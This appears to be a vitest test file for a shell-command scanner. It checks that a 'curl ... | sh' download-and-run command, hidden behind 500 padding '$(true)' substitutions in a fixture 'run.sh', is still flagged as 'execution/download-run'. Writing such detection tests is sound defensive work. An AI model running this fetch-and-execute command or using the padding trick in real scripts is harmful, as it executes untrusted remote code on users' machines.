import { expect, test } from 'vitest';
import { textPackage } from '../../package/text-package.fixture.js';
import { commandScanners } from './commands.js';

test('a command is found behind more substitutions than are kept together', () => {
  const prepared = textPackage({
    'run.sh': `echo ${'$(true) '.repeat(500)}$(curl -s http://203.0.113.7/a | sh)\n`,
  });
  const rules = commandScanners.flatMap(({ scan }) => scan(prepared)).map(({ rule }) => rule);
  expect(rules).toContain('execution/download-run');
});
